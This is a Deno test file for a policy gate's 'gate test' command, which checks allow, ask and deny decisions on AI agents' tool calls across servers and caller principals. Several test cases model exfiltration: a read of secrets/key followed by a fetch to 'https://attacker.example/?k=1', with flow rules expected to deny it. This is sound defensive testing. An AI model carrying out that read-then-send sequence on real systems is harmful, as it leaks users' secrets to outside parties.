// `gate test CASES --policy FILE` as a real process: each case decided by
// the gate's own code with no server, 0 when all hold, 1 naming each miss
// with what decided it, 2 for a wrong file, placed at its line.

import assert from "node:assert/strict";
import { runGate } from "../testdata/gate_process.ts";

const POLICY = (root: string, flows: boolean) =>
  `roots: ["${root}"]
presets: [filesystem]
tools:
  fetch: { patterns: ["net:{url}"] }
  search: allow
allow: ["read:**", "write:notes/**", "net:**"]
deny: ["write:secrets/**"]
unprobed: deny
annotations: { readOnly: allow }
${
    flows
      ? `flows:
  - after: ["read:secrets/**"]
    deny: ["net:**", "exec:**"]
  - after: ["net:**"]
    ask: ["write:**", "exec:**", unprobed]
`
      : ""
  }`;

const CASES = `cases:
  - name: notes are writable
    tool: write_file
    arguments: { path: notes/a.md, content: x }
    expect: allow
  - tool: write_file
    arguments: { path: secrets/key, content: x }
    expect: deny
  - name: a probed tool's patterns
    tool: fetch_probed
    patterns: ["net:https://example.com"]
    expect: allow
  - name: no exfiltration
    before:
      - { tool: read_text_file, arguments: { path: secrets/key } }
    tool: fetch
    arguments: { url: "https://attacker.example/?k=1" }
    expect: deny
  - name: untrusted content asks before a write
    before:
      - { tool: fetch, arguments: { url: "https://example.com" } }
    tool: write_file
    arguments: { path: notes/a.md, content: x }
    expect: ask
  - name: by name
    tool: search
    expect: allow
  - name: by annotation
    tool: lookup
    annotations: { readOnlyHint: true }
    expect: allow
  - name: unprobed
    tool: mystery
    expect: deny
`;

async function workspace() {
  const dir = await Deno.realPath(await Deno.makeTempDir());
  const root = `${dir}/work`;
  await Deno.mkdir(root);
  return {
    dir,
    root,
    policy: `${dir}/gate.yaml`,
    cases: `${dir}/cases.yaml`,
    async [Symbol.asyncDispose]() {
      await Deno.remove(dir, { recursive: true });
    },
  };
}

Deno.test("gate test holds when every case decides as expected", async () => {
  await using ws = await workspace();
  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
  await Deno.writeTextFile(ws.cases, CASES);
  const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
  assert.equal(run.stderr, "");
  assert.equal(run.stdout, `${ws.cases}: 8 cases hold\n`);
  assert.equal(run.code, 0);
});

Deno.test("gate test names a wrong expectation with the rule that decided", async () => {
  await using ws = await workspace();
  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
  await Deno.writeTextFile(
    ws.cases,
    CASES.replace(
      "arguments: { path: secrets/key, content: x }\n    expect: deny",
      "arguments: { path: secrets/key, content: x }\n    expect: allow",
    ),
  );
  const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
  assert.equal(run.code, 1);
  assert.equal(
    run.stdout,
    `${ws.cases}:8:5: cases[1]: expected allow, got deny by write:secrets/**\n${ws.cases}: 1 of 8 cases missed\n`,
  );
});

Deno.test("gate test names each case a changed policy decides otherwise, with the flow", async () => {
  await using ws = await workspace();
  await Deno.writeTextFile(ws.cases, CASES);
  // Without its flows, the policy lets the exfiltration through.
  await Deno.writeTextFile(ws.policy, POLICY(ws.root, false));
  const without = await runGate(["test", ws.cases, "--policy", ws.policy]);
  assert.equal(without.code, 1);
  assert.equal(
    without.stdout,
    [
      `${ws.cases}:18:5: cases[3] (no exfiltration): expected deny, got allow by net:**`,
      `${ws.cases}:24:5: cases[4] (untrusted content asks before a write): expected ask, got allow by write:notes/**`,
      `${ws.cases}: 2 of 8 cases missed`,
      "",
    ].join("\n"),
  );
  // With them, a case that expects the old decision misses, naming the flow.
  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
  await Deno.writeTextFile(
    ws.cases,
    CASES.replace(
      '"https://attacker.example/?k=1" }\n    expect: deny',
      '"https://attacker.example/?k=1" }\n    expect: allow',
    ),
  );
  const flowed = await runGate(["test", ws.cases, "--policy", ws.policy]);
  assert.equal(flowed.code, 1);
  assert.match(
    flowed.stdout,
    /cases\[3\] \(no exfiltration\): expected allow, got deny by flows\[0\] \(net:\*\*\), set off by read:secrets\/key of read_text_file\n/,
  );
});

Deno.test("gate test refuses a wrong file with its line and column (exit 2)", async (t) => {
  await using ws = await workspace();
  await Deno.writeTextFile(ws.policy, POLICY(ws.root, true));
  const cases: [string, string][] = [
    [
      "cases:\n  - tool: write_file\n    expect: maybe\n",
      ':3:5: cases[0].expect: expected allow, ask or deny, got "maybe"',
    ],
    [
      "cases:\n  - tool: f\n    patterns: [1]\n    expect: allow\n",
      ":3:5: cases[0].patterns: expected a list of pattern strings",
    ],
    [
      "cases:\n  - tool: f\n    tol: x\n    expect: allow\n",
      ":3:5: cases[0].tol: unknown key",
    ],
    [
      "cases:\n  - tool: f\n    server: files\n    expect: allow\n",
      ":3:5: cases[0].server: the policy names no servers",
    ],
    ["cases: [\n", ":"],
  ];
  for (const [text, message] of cases) {
    await t.step(message, async () => {
      await Deno.writeTextFile(ws.cases, text);
      const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
      assert.equal(run.code, 2);
      assert.ok(
        run.stderr.startsWith(
          `forge gate: Cannot read the cases: ${ws.cases}${message}`,
        ),
        run.stderr,
      );
    });
  }
  await t.step("a wrong policy", async () => {
    await Deno.writeTextFile(ws.cases, CASES);
    await Deno.writeTextFile(
      ws.policy,
      'flows:\n  - after: ["read:a"]\n    deny: ["NET:**"]\n',
    );
    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
    assert.equal(run.code, 2);
    assert.match(
      run.stderr,
      /Cannot load the policy: .*gate\.yaml:3:13: flows\[0\]\.deny\[0\]: unknown verb "NET"/,
    );
  });
  await t.step("a bad command line", async () => {
    const run = await runGate(["test", ws.cases]);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /Expected test CASES --policy FILE/);
  });
});

// A gate of many servers: each server's entry adds its own rules to the
// top level's, and the second flow watches the web server only.
const SERVERS_POLICY = (root: string, flowServer = "    server: web\n") =>
  `servers:
  files:
    command: ["node", "/opt/fs/dist/index.js", "${root}"]
    presets: [filesystem]
    roots: ["${root}"]
  notes:
    command: ["deno", "run", "-A", "examples/hello-tool/main.ts"]
    deny: ["write:notes/private/**"]
  web:
    url: "https://mcp.example.com/mcp"
    headers: { Authorization: "Bearer \${WEB_TOKEN}" }
    tools:
      fetch: { patterns: ["net:{url}"] }
allow: ["read:**", "write:notes/**", "net:**"]
deny: ["write:secrets/**"]
flows:
  - after: ["read:secrets/**"]
    deny: ["net:**", "exec:**"]
  - after: ["net:**"]
${flowServer}    ask: ["write:**", "exec:**", unprobed]
`;

const SERVER_CASES = `cases:
  - name: the top level's allow
    server: files
    tool: write_file
    arguments: { path: notes/private/a.md, content: x }
    expect: allow
  - name: the entry's own deny
    server: notes
    tool: write_note
    patterns: ["write:notes/private/a.md"]
    expect: deny
  - name: the entry's own tools
    server: web
    tool: fetch
    arguments: { url: "https://example.com" }
    expect: allow
  - name: no exfiltration across servers
    before:
      - server: files
        tool: read_text_file
        arguments: { path: secrets/key }
    server: web
    tool: fetch
    arguments: { url: "https://attacker.example/?k=1" }
    expect: deny
  - name: content from the web asks before a write
    before:
      - { server: web, tool: fetch, arguments: { url: "https://example.com" } }
    server: files
    tool: write_file
    arguments: { path: notes/a.md, content: x }
    expect: ask
  - name: the network on another server does not set off the web's flow
    before:
      - { server: notes, tool: fetch_note, patterns: ["net:https://example.com"] }
    server: files
    tool: write_file
    arguments: { path: notes/a.md, content: x }
    expect: allow
`;

Deno.test("gate test decides each case by its server's view of the policy", async (t) => {
  await using ws = await workspace();
  await Deno.writeTextFile(ws.policy, SERVERS_POLICY(ws.root));
  await t.step("every case holds", async () => {
    await Deno.writeTextFile(ws.cases, SERVER_CASES);
    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
    assert.equal(run.stderr, "");
    assert.equal(run.stdout, `${ws.cases}: 6 cases hold\n`);
    assert.equal(run.code, 0);
  });
  await t.step(
    "a wrong expectation is named with its server, and a flow with the host's name of the call that set it off",
    async () => {
      await Deno.writeTextFile(
        ws.cases,
        SERVER_CASES.replace(
          '"https://attacker.example/?k=1" }\n    expect: deny',
          '"https://attacker.example/?k=1" }\n    expect: allow',
        ).replace(
          'notes/private/a.md"]\n    expect: deny',
          'notes/private/a.md"]\n    expect: allow',
        ),
      );
      const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
      assert.equal(run.code, 1);
      assert.equal(
        run.stdout,
        [
          `${ws.cases}:11:5: cases[1] (the entry's own deny) on server "notes": expected allow, got deny by write:notes/private/**`,
          `${ws.cases}:25:5: cases[3] (no exfiltration across servers) on server "web": expected allow, got deny by flows[0] (net:**), set off by read:secrets/key of files_read_text_file`,
          `${ws.cases}: 2 of 6 cases missed`,
          "",
        ].join("\n"),
      );
    },
  );
  await t.step(
    "a flow that watches every server decides a case otherwise",
    async () => {
      await Deno.writeTextFile(ws.cases, SERVER_CASES);
      await Deno.writeTextFile(ws.policy, SERVERS_POLICY(ws.root, ""));
      const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
      assert.equal(run.code, 1);
      assert.equal(
        run.stdout,
        [
          `${ws.cases}:39:5: cases[5] (the network on another server does not set off the web's flow) on server "files": expected allow, got ask by flows[1] (write:**), set off by net:https://example.com of notes_fetch_note`,
          `${ws.cases}: 1 of 6 cases missed`,
          "",
        ].join("\n"),
      );
    },
  );
  await t.step(
    "a call without its server, or on an unknown one, is refused (exit 2)",
    async (t) => {
      await Deno.writeTextFile(ws.policy, SERVERS_POLICY(ws.root));
      const wrong: [string, string][] = [
        [
          "cases:\n  - tool: write_file\n    expect: allow\n",
          ":2:5: cases[0]: missing server: the policy names servers (files, notes, web): expected the server the call is for, such as server: files",
        ],
        [
          "cases:\n  - tool: fetch\n    server: mail\n    expect: allow\n",
          ':3:5: cases[0].server: expected one of the policy\'s servers (files, notes, web), got "mail"',
        ],
        [
          "cases:\n  - server: web\n    tool: fetch\n    before:\n      - { tool: read_text_file }\n    expect: allow\n",
          // Where its server would go: beside its tool.
          ":5:11: cases[0].before[0]: missing server: the policy names servers (files, notes, web)",
        ],
      ];
      for (const [text, message] of wrong) {
        await t.step(message, async () => {
          await Deno.writeTextFile(ws.cases, text);
          const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
          assert.equal(run.code, 2);
          assert.equal(run.stdout, "");
          assert.ok(
            run.stderr.startsWith(
              `forge gate: Cannot read the cases: ${ws.cases}${message}`,
            ),
            run.stderr,
          );
        });
      }
    },
  );
});

// Rules by caller: a principal's allow and a principal's flow.
const PRINCIPALS_POLICY = (root: string) =>
  `roots: ["${root}"]
presets: [filesystem]
tools:
  fetch: { patterns: ["net:{url}"] }
allow: ["read:**", "net:**"]
unprobed: deny
principals:
  - match: { groups: [admins] }
    allow: ["write:**"]
  - match: { claim: { team: [contractors] } }
    flows:
      - after: ["read:secrets/**"]
        deny: ["net:**"]
`;

const PRINCIPAL_CASES = `cases:
  - name: a contractor cannot send a secret out
    claims: { sub: carol, team: contractors }
    before:
      - { tool: read_text_file, arguments: { path: secrets/key } }
    tool: fetch
    arguments: { url: "https://attacker.example/?k=1" }
    expect: deny
  - name: another caller can
    claims: { sub: dave, team: staff }
    before:
      - { tool: read_text_file, arguments: { path: secrets/key } }
    tool: fetch
    arguments: { url: "https://attacker.example/?k=1" }
    expect: allow
  - name: an admin writes
    claims: { sub: erin, groups: [admins], scope: "files:read files:write" }
    tool: write_file
    arguments: { path: notes/a.md, content: x }
    expect: allow
  - name: without a token, nobody's principals
    tool: write_file
    arguments: { path: notes/a.md, content: x }
    expect: ask
`;

Deno.test("gate test decides a case with claims by the caller's principals and their flows", async (t) => {
  await using ws = await workspace();
  await Deno.writeTextFile(ws.policy, PRINCIPALS_POLICY(ws.root));
  await t.step("every case holds", async () => {
    await Deno.writeTextFile(ws.cases, PRINCIPAL_CASES);
    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
    assert.equal(run.stderr, "");
    assert.equal(run.stdout, `${ws.cases}: 4 cases hold\n`);
    assert.equal(run.code, 0);
  });
  await t.step("a miss names the principal's flow", async () => {
    await Deno.writeTextFile(
      ws.cases,
      PRINCIPAL_CASES.replace(
        '?k=1" }\n    expect: deny',
        '?k=1" }\n    expect: allow',
      ),
    );
    const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
    assert.equal(run.code, 1);
    assert.equal(
      run.stdout,
      [
        `${ws.cases}:8:5: cases[0] (a contractor cannot send a secret out): expected allow, got deny by principals[1].flows[0] (net:**), set off by read:secrets/key of read_text_file`,
        `${ws.cases}: 1 of 4 cases missed`,
        "",
      ].join("\n"),
    );
  });
  await t.step("wrong claims are refused (exit 2)", async (t) => {
    const wrong: [string, string][] = [
      [
        "cases:\n  - tool: f\n    claims: alice\n    expect: allow\n",
        ":3:5: cases[0].claims: expected the caller's token claims ({ sub: alice, groups: [admins] }), got string",
      ],
      [
        "cases:\n  - tool: f\n    claims: { groups: [1] }\n    expect: allow\n",
        ":3:5: cases[0].claims.groups: expected a group or a list of groups, got an array",
      ],
    ];
    for (const [text, message] of wrong) {
      await t.step(message, async () => {
        await Deno.writeTextFile(ws.cases, text);
        const run = await runGate(["test", ws.cases, "--policy", ws.policy]);
        assert.equal(run.code, 2);
        assert.ok(
          run.stderr.startsWith(
            `forge gate: Cannot read the cases: ${ws.cases}${message}`,
          ),
          run.stderr,
        );
      });
    }
  });
});
